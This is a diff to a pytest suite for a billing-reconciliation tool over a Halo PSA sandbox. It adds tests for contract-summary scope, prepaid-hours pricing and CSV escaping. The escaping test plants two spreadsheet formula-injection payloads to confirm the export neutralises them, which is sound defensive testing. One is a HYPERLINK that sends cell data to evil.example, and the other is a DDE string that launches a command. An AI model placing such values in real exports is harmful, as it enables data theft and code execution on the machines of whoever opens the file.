@@ -127,7 +127,8 @@ async def test_bulk_reads_one_paged_sweep_per_record_kind(server, sb, book):
     assert reads["recurring_invoices"] == len(book.recurring_invoice_ids)
     assert reads["invoices"] == len(book.invoice_ids)
     minimum = pages(reads["contracts"]) + pages(reads["recurring_invoices"]) + pages(reads["invoices"]) + 1
-    assert api_requests(sb) == minimum == reads["pages"]
+    # the sandbox prices every unbilled entry itself: no contract detail is needed
+    assert api_requests(sb) == minimum == reads["pages"] == reads["requests"] and reads["contract_details"] == 0
     assert sb.log.count(path_prefix="/api/ClientContract") == pages(reads["contracts"])
     # progress: one report per page and a last one; never going back; ends at its total
     assert len(progress) == minimum + 1
@@ -242,7 +243,8 @@ async def test_unknown_contract_is_a_clear_error(server):
 async def test_value_by_client_one_sweep_highest_first(server, sb, book):
     progress: list = []
     out = await call(server, "summarize_contracts", progress=progress, group_by="client")
-    assert out["contracts"] == len(book.contract_ids)
+    assert out["scope"] == "current" and out["contracts_not_current"] > 0
+    assert out["contracts"] + out["contracts_not_current"] == len(book.contract_ids)
     assert api_requests(sb) == pages(len(book.contract_ids)) + pages(len(book.recurring_invoice_ids)) \
         == out["records_read"]["pages"]
     assert sb.log.count(path_prefix="/api/Client?") == 0 and len(progress) == out["records_read"]["pages"]
@@ -266,9 +268,27 @@ async def test_summary_csv_parses_back_to_the_same_numbers(server, group_by):
 
 
 async def test_summary_by_status_filter(server, book):
-    out = await call(server, "summarize_contracts", group_by="type", status="active")
+    out = await call(server, "summarize_contracts", group_by="type", status="active", scope="all")
     assert out["status"] == "Active"
     assert out["contracts"] == len(book.contracts_by_status["Active"])
+    current = await call(server, "summarize_contracts", group_by="type", status="active")
+    assert current["contracts"] + current["contracts_not_current"] == out["contracts"]
+
+
+async def test_only_contracts_billing_today_have_recurring_revenue(server, book):
+    everything = await call(server, "summarize_contracts", group_by="status", scope="all")
+    groups = {g["group"]: g for g in everything["groups"]}
+    assert {"Expired", "Cancelled", "On Hold", "Pending"} <= set(groups)
+    for name in ("Expired", "Cancelled", "On Hold", "Pending"):
+        assert groups[name]["annual_recurring_revenue"] == "0.00", groups[name]
+        assert groups[name]["contracts"] == len(book.contracts_by_status[name])
+    current = await call(server, "summarize_contracts", group_by="status")
+    assert {g["group"] for g in current["groups"]} == {"Active"}
+    # the default leaves out what does not bill today, and the revenue is the same either way
+    assert current["annual_recurring_revenue"] == everything["annual_recurring_revenue"] == \
+        groups["Active"]["annual_recurring_revenue"]
+    assert current["contracts"] + current["contracts_not_current"] == everything["contracts"]
+    assert D(current["total_value"]) < D(everything["total_value"])
 
 
 async def test_a_sweep_that_fails_is_a_clear_error(server, sb, book):
@@ -279,3 +299,69 @@ async def test_a_sweep_that_fails_is_a_clear_error(server, sb, book):
         sb.allow("/api/Invoice")
     assert "permission" in text.lower() and "/Invoice" in text
     assert text.strip() != "Error executing tool reconcile_billing"
+
+
+# ---- prepaid time priced the same by both tools; CSV that a spreadsheet cannot run ---------------
+
+
+@pytest.fixture
+def own_app():
+    """A small book of this test's own (the shared one is left as the sandbox made it)."""
+    return create_app(SandboxConfig(clients=5, contracts=40, today=TODAY, rate_limit=1_000_000))
+
+
+def own_server(app, tmp_path):
+    settings = load_settings(base_url="http://sandbox", client_id="sandbox-client", client_secret="sandbox-secret",
+                             rate_limit="1000000/1", tools="reconciliation,reports")
+    return build_server(settings, transport=SpecCheckingTransport(transport(app)),
+                        journal_path=tmp_path / "own.sqlite3", extras={"today": TODAY})
+
+
+async def test_prepaid_unbilled_time_is_priced_alike_by_both_tools(own_app, tmp_path):
+    sandbox = own_app.state.sandbox
+    book = sandbox.book
+    prepaid = next(cid for cid in book.contracts_by_type["Prepaid Hours"]
+                   if cid in book.contracts_by_status["Active"])
+    month = book.billing_months[-2]
+    # billable time on the block, beyond it (no prepay hours), with no charge amount: 2.5 h
+    sandbox.store.insert("actions", {
+        "ticket_id": 0, "datetime": f"{month.isoformat()}T10:00:00", "timetaken": 2.5, "actisbillable": True,
+        "actioncontractid": prepaid, "action_contract_id": prepaid, "actionchargehours": 2.5,
+        "actionchargeamount": 0.0, "actionprepayhours": 0.0, "actioninvoicenumber": ""})
+    period = {"period_start": month.isoformat(), "period_end": month_end(month).isoformat()}
+    server = own_server(own_app, tmp_path)
+    sandbox.log.clear()
+    progress: list = []
+    bulk = await call(server, "reconcile_billing", progress=progress, limit=1000, **period)
+    reads = bulk["records_read"]
+    # one detail read for the one contract that needs the block rate, and it is accounted for
+    assert reads["contract_details"] == 1 and reads["requests"] == reads["pages"] + 1 == api_requests(sandbox)
+    assert sandbox.log.count(path_prefix=f"/api/ClientContract/{prepaid}") == 1
+    assert progress[-1][0] == progress[-1][1] == reads["requests"] + 1
+    row = next(r for r in bulk["contracts"] if r["contract_id"] == prepaid)
+    # the block's rate is its price / its hours: 125.00 an hour in the sandbox -> 2.5 h = 312.50
+    assert (row["unbilled_time"]["amount"], row["unbilled_time"]["unpriced_entries"]) == ("312.50", 0)
+    one = await call(server, "reconcile_contract_billing", contract_id=prepaid, **period)
+    assert one["reconciliation"]["unbilled_time"] == row["unbilled_time"]
+
+
+async def test_csv_text_from_halo_cannot_run_as_a_formula(own_app, tmp_path):
+    sandbox = own_app.state.sandbox
+    cid = sandbox.book.clean_contract_ids[0]
+    doc = sandbox.store.get("contracts", cid)
+    doc["ref"] = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+    sandbox.store.put("contracts", doc)
+    client = sandbox.store.get("clients", doc["client_id"])
+    client["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    sandbox.store.put("clients", client)
+    server = own_server(own_app, tmp_path)
+    out = await call(server, "reconcile_contract_billing", contract_id=cid, format="csv", **window(sandbox.book))
+    rows = list(csv.DictReader(io.StringIO(out["csv"])))
+    assert {r["contract_ref"] for r in rows} == {"'" + doc["ref"]}
+    assert {r["client_name"] for r in rows} == {"'" + client["name"]}
+    # the JSON answer keeps Halo's own text, and the CSV's numbers still parse as the JSON's
+    assert out["reconciliation"]["contract_ref"] == doc["ref"]
+    assert {D(r["expected_recurring"]) for r in rows} == {D(out["reconciliation"]["expected_recurring"])}
+    summary = await call(server, "summarize_contracts", group_by="client", format="csv")
+    groups = [r["group"] for r in csv.DictReader(io.StringIO(summary["csv"]))]
+    assert "'" + client["name"] in groups and client["name"] not in groups
